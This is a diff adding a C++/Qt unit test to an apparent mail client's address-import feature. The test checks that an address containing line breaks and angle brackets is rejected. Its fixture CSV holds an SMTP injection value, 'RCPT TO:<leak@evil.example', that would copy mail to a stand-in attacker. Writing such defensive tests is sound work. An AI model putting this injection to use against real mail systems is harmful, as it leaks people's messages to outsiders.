@@ -107,6 +107,22 @@ TEST_F(AddAddress, OffersTheBooksOfTheContactsFolderAndReadsTheChosenOneSorted) 
               window_->sourceAddresses());
 }
 
+// An address book whose address would add a line to the conversation with the mail server:
+// that address is left out of the source list and named in one message; the others come in.
+TEST_F(AddAddress, InjectedAddressesAreLeftOutAndNamed) {
+    write(folder_ + QStringLiteral("/Exported.csv"),
+          "Name,Email\r\nEve,\"ann@example.org>\r\nRCPT TO:<leak@evil.example\"\r\nFay,fay@example.org\r\n");
+    ui().acceptUnscriptedMessages();
+    window_->cbxListSource()->setText(mail::kContactsSource);
+    window_->cbxListName()->setText(QStringLiteral("Exported"));
+    EXPECT_EQ(QStringList{QStringLiteral("fay@example.org")}, window_->sourceAddresses());
+    EXPECT_EQ(
+        QStringList{QStringLiteral("These e-mail addresses were left out.  An e-mail address can't hold "
+                                   "line breaks, other control characters or angle brackets:\n"
+                                   "ann@example.org>\\r\\nRCPT TO:<leak@evil.example")},
+        ui().messageTexts());
+}
+
 TEST_F(AddAddress, MovesBetweenTheListsFollowTheNameOption) {
     window_->cbxListSource()->setText(mail::kContactsSource);
     window_->cbxListName()->setText(QStringLiteral("Contacts"));
